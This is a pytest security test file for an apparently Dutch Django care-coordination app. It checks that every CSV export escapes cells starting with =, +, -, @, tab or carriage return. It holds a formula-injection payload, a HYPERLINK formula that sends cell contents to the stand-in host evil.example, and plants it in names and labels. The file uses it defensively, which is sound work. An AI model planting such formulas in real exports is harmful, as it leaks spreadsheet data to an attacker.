"""CSV/formula injection (security review, issue 9 item 13): every CSV export
neutralises text cells that a spreadsheet would run as a formula."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from hypothesis import given
from hypothesis import strategies as st

from tests.factories import CasusFactory, MeldingFactory, OrganisationFactory, PersonFactory
from tests.network.factories import ServiceFactory, propose
from vangnet.core import csv_export

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"klik")'


# --- the helper ------------------------------------------------------------------------


@pytest.mark.parametrize("start", DANGEROUS)
def test_dangerous_text_gets_a_leading_quote(start):
    assert csv_export.safe_cell(start + PAYLOAD) == "'" + start + PAYLOAD


@pytest.mark.parametrize("value", [-3, -2.5, Decimal("-1.25"), 0, None, "", "Politie", "50,0", "'=al veilig"])
def test_numbers_and_harmless_text_stay_as_they_are(value):
    assert csv_export.safe_cell(value) == value


@given(st.text())
def test_no_written_text_cell_can_start_a_formula(text):
    out = io.StringIO()
    csv_export.writer(out, delimiter=";").writerow([text, 7])
    [cell, number] = next(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
    assert not cell.startswith(tuple(DANGEROUS)) and number == "7"
    assert cell == text or cell == "'" + text  # nothing else is changed


# --- every CSV export URL -------------------------------------------------------------------


def _plant_network(ggd, users, monkeypatch, text):
    """A partner organisation whose name is the payload, with a referral from the GGD."""
    service = ServiceFactory(organisation=OrganisationFactory(name=text, kind="ggz", does_bemoeizorg=False))
    propose(CasusFactory(organisation=ggd, casusregisseur=users["bemoeizorger"]), service, users["bemoeizorger"])
    return reverse("network:figures_csv")


def _plant_wvggz(ggd, users, monkeypatch, text):
    """The Wvggz export has only fixed labels and numbers; a planted label proves its writer is the safe one."""
    from vangnet.wvggz import views

    monkeypatch.setattr(views, "FIGURE_ROWS", [*views.FIGURE_ROWS, ("meldingen", text)])
    return reverse("wvggz:figures_csv") + "?van=2026-01-01&tot=2026-12-31"


def _plant_meldingen_list(ggd, users, monkeypatch, text):
    """The betrokkene as the melder described him: free text typed at the meldpunt."""
    MeldingFactory(meldpunt=ggd, given_names="", tussenvoegsel="", surname=text)
    return reverse("intake:list_export")


def _plant_casussen_list(ggd, users, monkeypatch, text):
    person = PersonFactory(given_names="", roepnaam="", tussenvoegsel="", surname=text)
    CasusFactory(organisation=ggd, person=person, casusregisseur=users["bemoeizorger"])
    return reverse("cases:list_export")


def _plant_monitor(ggd, users, monkeypatch, text):
    """The monitor's export has fixed labels and numbers; a planted label proves its writer is the safe one."""
    from vangnet.monitor import report

    monkeypatch.setitem(report.LABELS, "meldingen_ontvangen", text)
    return reverse("monitor:export_csv") + "?van=2026-01-01&tot=2026-06-30"


def _plant_register(ggd, users, monkeypatch, text):
    """The register of processing names the controllers (an organisation named like a formula
    starts their cell) and has fixed labels (a planted one is a cell of its own)."""
    import dataclasses

    from vangnet.verwerking import register

    OrganisationFactory(name=text, runs_meldpunt=True)
    first = dataclasses.replace(register.DEFINITIONS[0], name=text)
    monkeypatch.setattr(register, "DEFINITIONS", (first, *register.DEFINITIONS[1:]))
    return reverse("verwerking:register_csv")


def _plant_requests(ggd, users, monkeypatch, text):
    """The register of requests names the organisation a request was made to."""
    from django.utils import timezone

    from tests.factories import UserFactory
    from vangnet.accounts.roles import Role
    from vangnet.verzoeken import services

    org = OrganisationFactory(name=text, runs_meldpunt=True, does_bemoeizorg=True)
    teamleider = UserFactory(role=Role.TEAMLEIDER, organisation=org)
    casus = CasusFactory(organisation=org, casusregisseur=UserFactory(role=Role.BEMOEIZORGER, organisation=org))
    services.register_request(
        casus.person,
        kind="correctie",
        received_on=timezone.localdate(),
        channel="schriftelijk",
        request_text="Mijn adres klopt niet",
        by=teamleider,
    )
    return reverse("verzoeken:register_export")


# Who downloads each export (the teamleider unless named here).
WHO = {"verwerking:register_csv": "privacy", "verzoeken:register_export": "privacy"}

EXPORTS = {
    "verwerking:register_csv": _plant_register,
    "verzoeken:register_export": _plant_requests,
    "network:figures_csv": _plant_network,
    "wvggz:figures_csv": _plant_wvggz,
    "monitor:export_csv": _plant_monitor,
    "intake:list_export": _plant_meldingen_list,
    "cases:list_export": _plant_casussen_list,
}


def _csv_url_names(resolver=None, namespace=""):
    for p in (resolver or get_resolver()).url_patterns:
        if isinstance(p, URLResolver):
            yield from _csv_url_names(p, f"{namespace}{p.namespace}:" if p.namespace else namespace)
        elif isinstance(p, URLPattern) and "csv" in str(p.pattern).lower():
            yield f"{namespace}{p.name}"


def test_the_table_covers_every_csv_export():
    assert set(_csv_url_names()) == set(EXPORTS)


@pytest.mark.django_db
@pytest.mark.parametrize("start", DANGEROUS)
@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_every_export_neutralises_formula_cells(name, start, ggd, users, login, monkeypatch):
    text = start + PAYLOAD
    url = EXPORTS[name](ggd, users, monkeypatch, text)
    response = login(users[WHO.get(name, "teamleider")]).get(url)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    cells = [c for row in csv.reader(io.StringIO(response.content.decode()), delimiter=";") for c in row]
    assert "'" + text in cells  # the planted text arrived, neutralised
    assert not [c for c in cells if c.startswith(tuple(DANGEROUS))]
